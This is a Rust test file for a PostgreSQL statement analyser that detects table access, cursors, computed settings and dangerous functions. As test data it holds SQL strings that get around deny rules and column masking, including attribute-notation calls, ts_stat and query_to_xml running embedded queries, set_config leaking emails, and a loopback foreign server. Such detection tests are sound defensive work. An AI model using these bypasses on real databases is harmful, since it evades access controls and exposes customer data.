        assert_eq!((s.class, &s.tables), (class, &tables), "{sql:?}: {s:?}");
    }
    // Without CASCADE only what is named.
    let s = one("TRUNCATE public.customers");
    assert_eq!(
        s.tables,
        [table(Some("public"), "customers", Access::Write)]
    );
    let s = one("GRANT SELECT ON billing.invoices TO ci");
    assert_eq!(
        s.tables,
        [table(Some("billing"), "invoices", Access::Write)]
    );
    // A foreign server may be this very database: importing its billing
    // schema makes billing's tables reachable under public names.
    let s = one("IMPORT FOREIGN SCHEMA billing FROM SERVER loop INTO public");
    assert_eq!(s.tables, [every("billing"), every("public")]);
    check(
        "CREATE SERVER loop FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', dbname 'orders')",
        Ddl,
        &[DangerousFunction],
    );
    check(
        "SELECT pg_stat_statements_reset()",
        Read,
        &[DangerousFunction],
    );
}

/// Found in review: `SELECT i.purge FROM billing.invoices i` calls
/// `purge(i)` (attribute notation), past a `deny_functions` rule on
/// `purge`. Every name after a dot in an expression is reported as a
/// possible call; policy takes it for one only under a pattern that names
/// the function exactly.
#[test]
fn names_in_attribute_notation_may_be_calls() {
    let s = one("SELECT i.purge, (i).refund, x.y.z FROM billing.invoices i");
    let attributes: Vec<&str> = s
        .functions
        .iter()
        .filter(|f| f.attribute && f.schema.is_none())
        .map(|f| f.name.as_str())
        .collect();
    assert_eq!(attributes, ["purge", "refund", "z"], "{s:?}");
    let s = one("SELECT purge(i) FROM billing.invoices i");
    assert!(s.functions.iter().all(|f| !f.attribute), "{s:?}");
}

/// `WHERE CURRENT OF` names a portal, wherever the change sits, and the
/// fast path leaves such a statement to the walk that reports it.
#[test]
fn where_current_of_names_its_cursor() {
    for (sql, name) in [
        ("UPDATE items SET qty = 1 WHERE CURRENT OF c1", "c1"),
        (
            "delete from items where current of \"Odd Name\"",
            "Odd Name",
        ),
        (
            r#"WITH d AS (DELETE FROM items WHERE CURRENT OF U&"\0063x" RETURNING 1) SELECT * FROM d"#,
            "cx",
        ),
        ("PREPARE p AS DELETE FROM items WHERE CURRENT OF c2", "c2"),
        (
            "EXPLAIN ANALYZE UPDATE items SET qty = 1 WHERE CURRENT OF c3",
            "c3",
        ),
    ] {
        assert_eq!(one(sql).current_of, [name], "{sql:?}");
    }
    assert!(
        one("UPDATE items SET qty = 1 WHERE id = 1")
            .current_of
            .is_empty()
    );
}

/// A function written in attribute notation is called like any other
/// (found in review: `(text).ts_stat` ran the query in its text), and a
/// cursor read as XML returns what any query does.
#[test]
fn dangerous_functions_are_flagged_in_attribute_notation_and_over_cursors() {
    for sql in [
        "SELECT ('SELECT to_tsvector(email) FROM customers'::text).ts_stat",
        "SELECT (q).ts_stat FROM (SELECT 'SELECT 1'::text AS q) s",
        "SELECT s.query_to_xml FROM (SELECT 1) s",
        "SELECT cursor_to_xml('c', 10, false, false, '')",
        "SELECT pg_catalog.cursor_to_xmlschema('c', false, false, '')",
    ] {
        assert!(one(sql).has_flag(Flag::DangerousFunction), "{sql:?}");
    }
}

/// A setting given a value the statement computes can carry a column's
/// value past masking (`SHOW`, `current_setting`, `pg_stat_activity`);
/// a constant or a parameter cannot.
#[test]
fn computed_setting_values_are_reported() {
    for sql in [
        "SELECT set_config('my.x', email, false) FROM customers",
        "SELECT set_config('application_name', (SELECT email FROM customers LIMIT 1), false)",
        "SELECT set_config('my.x', $1 || email, false) FROM customers",
        "UPDATE pg_settings SET setting = 'x' WHERE name = 'my.x'",
        // EXECUTE binds `$1` to what the server computes.
        "PREPARE p(text) AS SELECT set_config('my.p', $1, false)",
    ] {
        assert!(one(sql).computed_setting, "{sql:?}");
    }
    for sql in [
        "SELECT set_config('my.x', 'constant', false)",
        "SELECT set_config('app.user', $1, false)",
        "SELECT set_config('app.user', $1::text, true)",
        "SELECT email FROM customers",
    ] {
        assert!(!one(sql).computed_setting, "{sql:?}");
    }
}

/// `ON CONFLICT … DO UPDATE` reads the row it conflicts with, so its
/// target counts as read as well as written; `DO NOTHING` reads nothing.
#[test]
fn an_upsert_reads_its_target() {
    let read_and_written = |sql: &str| {
        let s = one(sql);
        let accesses: Vec<Access> = s
            .tables
            .iter()
            .filter(|t| t.name == "customers")
            .map(|t| t.access)
            .collect();
        accesses
    };
    assert_eq!(
        read_and_written(
            "INSERT INTO customers (id, name) VALUES (1, 'x') \
             ON CONFLICT (id) DO UPDATE SET name = customers.email"
        ),
        [Access::Read, Access::Write]
    );
    assert_eq!(
        read_and_written("INSERT INTO customers (id) VALUES (1) ON CONFLICT DO NOTHING"),
        [Access::Write]
    );
}
